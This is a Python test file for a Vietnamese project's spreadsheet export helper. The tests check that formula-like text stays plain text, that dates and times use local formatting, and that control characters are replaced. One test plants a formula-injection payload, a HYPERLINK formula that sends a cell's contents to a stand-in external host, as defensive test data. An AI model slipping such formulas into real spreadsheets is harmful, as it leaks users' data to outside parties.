import datetime
import io

from openpyxl import load_workbook

from danvan.core.exports import xlsx_response


def read(response):
    return load_workbook(io.BytesIO(response.content))


def test_text_that_looks_like_a_formula_stays_text():
    planted = '=HYPERLINK("http://example.invalid/?"&B2,"Xem")'
    response = xlsx_response("x.xlsx", [("Cán bộ", ["Họ và tên", "Ghi chú"], [["=1+1", planted], ["-5 người", "@x"]])])
    sheet = read(response)["Cán bộ"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells] == ["=1+1", planted, "-5 người", "@x"]
    assert {c.data_type for c in cells} == {"s"}


def test_dates_booleans_and_times_are_written_the_vietnamese_way():
    moment = datetime.datetime(2026, 11, 25, 18, 30, tzinfo=datetime.UTC)  # 01:30 next day in Vietnam
    response = xlsx_response(
        "x.xlsx",
        [("A", [f"Cột {n}" for n in range(60)], [[datetime.date(2026, 2, 3), True, moment, None, 7] + [""] * 55])],
    )
    sheet = read(response)["A"]
    assert [c.value for c in next(sheet.iter_rows(min_row=2, max_col=5))] == [
        "03/02/2026", "có", "26/11/2026 01:30", None, 7,
    ]  # fmt: skip
    assert sheet.cell(row=1, column=60).value == "Cột 59"


def test_every_control_character_a_file_cannot_hold_is_written_as_a_space():
    from danvan.core.text import xml_safe

    bad = [chr(n) for n in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))] + ["\ufffe", "\uffff"]
    pasted = "Nội" + "".join(bad) + "dung\tcó\ttab\nvà xuống dòng"
    assert xml_safe(pasted) == "Nội" + " " * len(bad) + "dung\tcó\ttab\nvà xuống dòng"
    response = xlsx_response("x.xlsx", [("Ý kiến", ["Nội\x0bdung"], [[pasted], ["\x0b=1+1"], ["=2+2\x0c"]])])
    sheet = read(response)["Ý kiến"]
    assert sheet["A1"].value == "Nội dung"
    assert sheet["A2"].value == xml_safe(pasted)
    assert (sheet["A3"].value, sheet["A4"].value, sheet["A4"].data_type) == (" =1+1", "=2+2 ", "s")
